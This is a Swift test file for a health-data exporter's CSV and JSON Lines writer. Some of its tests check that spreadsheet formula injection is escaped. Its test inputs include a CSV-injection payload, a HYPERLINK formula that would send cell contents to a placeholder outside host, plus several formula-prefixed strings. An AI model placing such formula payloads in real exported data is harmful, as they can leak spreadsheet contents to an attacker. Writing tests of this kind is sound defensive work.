import ExportFixtures
import Foundation
import StoreConformance
import Testing
import WellsealBase
import WellsealCompression
import WellsealExchange
import WellsealImports
import WellsealModel

@Suite("Sample tables")
struct SampleTableWriterTests {
  private static let body = """
     <Record type="HKQuantityTypeIdentifierBodyMass" sourceName="Scale, &quot;big&quot;" unit="kg" \
    creationDate="2024-01-01 11:00:00 +0100" startDate="2024-01-01 10:00:00 +0100" endDate="2024-01-01 10:00:00 +0100" \
    value="68.39">
      <MetadataEntry key="HKWasUserEntered" value="1"/>
     </Record>
     <Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="Watch" startDate="2024-01-01 23:00:00 +0100" \
    endDate="2024-01-02 01:00:00 +0100" value="HKCategoryValueSleepAnalysisAsleepREM"/>

    """

  private static func archive(_ body: String) throws -> ExportArchive {
    try ExportArchive(MemoryBytes(Array(ExportFixture.document(body).utf8)))
  }

  private static func written(_ format: SampleTableWriter.Format) async throws -> String {
    let store = MemoryStore()
    _ = try await HealthExportImporter().run(Self.archive(body), into: store)
    var bytes: [UInt8] = []
    try await SampleTableWriter(format).write(store, [.init(.bodyMass), .init(.sleepAnalysis)]) {
      bytes += $0
    }
    return String(decoding: bytes, as: UTF8.self)
  }

  @Test("CSV has a header line and one line per sample")
  func csv() async throws {
    let identifier = "com.apple.health.import."
    #expect(
      try await Self.written(.csv)
        == [
          "type,start,end,value,unit,constant,source,sourceIdentifier,sourceVersion,device,created,metadata,clinicalDate",
          "HKQuantityTypeIdentifierBodyMass,2024-01-01T09:00:00Z,2024-01-01T09:00:00Z,68.39,kg,,"
            + "\"Scale, \"\"big\"\"\",\(identifier)Scale%2C%20%22big%22,,,2024-01-01T10:00:00Z,"
            + "\"{\"\"HKWasUserEntered\"\":\"\"1\"\"}\",",
          "HKCategoryTypeIdentifierSleepAnalysis,2024-01-01T22:00:00Z,2024-01-02T00:00:00Z,5,,"
            + "HKCategoryValueSleepAnalysisAsleepREM,Watch,\(identifier)Watch,,,,,", "",
        ].joined(separator: "\r\n"))
  }

  @Test(
    "No text of CSV is a formula, unless exact texts are asked for",
    arguments: [
      "=HYPERLINK(&quot;http://elsewhere.example/?&quot;&amp;A1)", "+1", "-1", "@SUM(A1)", "&#9;=1",
      "&#13;=1",
      "＝1",
    ])
  func formulas(name: String) async throws {
    let store = MemoryStore()
    let body = Self.body.replacing("Scale, &quot;big&quot;", with: name).replacing("kg", with: "lb")
    _ = try await HealthExportImporter().run(Self.archive(body), into: store)
    var tables: [String] = []
    for isExact in [false, true] {
      var bytes: [UInt8] = []
      try await SampleTableWriter(.csv, exactText: isExact).write(store, [.init(.bodyMass)]) { bytes += $0 }
      let row = try #require(CSVTable(parsing: String(decoding: bytes, as: UTF8.self)).rows.first)
      #expect(row["value"] == "68.39")
      tables.append(try #require(row["source"]))
    }
    #expect(tables[0] == "'" + tables[1])
    let exact = try await store.samples(of: .bodyMass).first?.provenance.sourceRevision?.source.name
    #expect(tables[1] == exact)
  }

  @Test(
    "No ignored character hides a formula",
    arguments: [
      "\0", "\u{1}", "\u{B}", "\u{7F}", "\u{85}", "\u{A0}", " ", "\u{200B}", "\u{200E}", "\u{2028}",
      "\u{FEFF}", "\n",
    ])
  func hiddenFormulas(first: String) async throws {
    let store = MemoryStore()
    let source = HealthSource(name: first + "=1+1", bundleIdentifier: "com.example.app")
    let sample = try HealthSample(
      type: .bodyMass, start: Date(timeIntervalSince1970: 0), end: Date(timeIntervalSince1970: 0),
      value: .quantity(HealthQuantity(68, HealthUnit(parsing: "kg"))),
      provenance: Provenance(sourceRevision: SourceRevision(source: source)))
    _ = try await store.commit([.add(NewSample(sample))])
    var bytes: [UInt8] = []
    try await SampleTableWriter(.csv).write(store, [.init(.bodyMass)]) { bytes += $0 }
    let row = try #require(CSVTable(parsing: String(decoding: bytes, as: UTF8.self)).rows.first)
    #expect(row["source"]?.first == "'")
  }

  @Test("The strict reader accepts the CSV")
  func csvIsStrict() async throws {
    let table = try CSVTable(parsing: await Self.written(.csv))
    #expect(table.rows.map { $0["source"] } == ["Scale, \"big\"", "Watch"])
  }

  @Test("JSON Lines has one object per sample")
  func jsonLines() async throws {
    let lines = try await Self.written(.jsonLines).split(separator: "\n")
    let objects = try lines.map { try JSONDocument(parsing: String($0)) }
    #expect(objects.count == 2)
    #expect(objects[0].root["value"]?.numberText == "68.39")
    #expect(objects[0].root["metadata"]?["HKWasUserEntered"]?.string == "1")
    #expect(objects[1].root["constant"]?.string == "HKCategoryValueSleepAnalysisAsleepREM")
    #expect(objects[1].root["created"] == nil)
  }
}
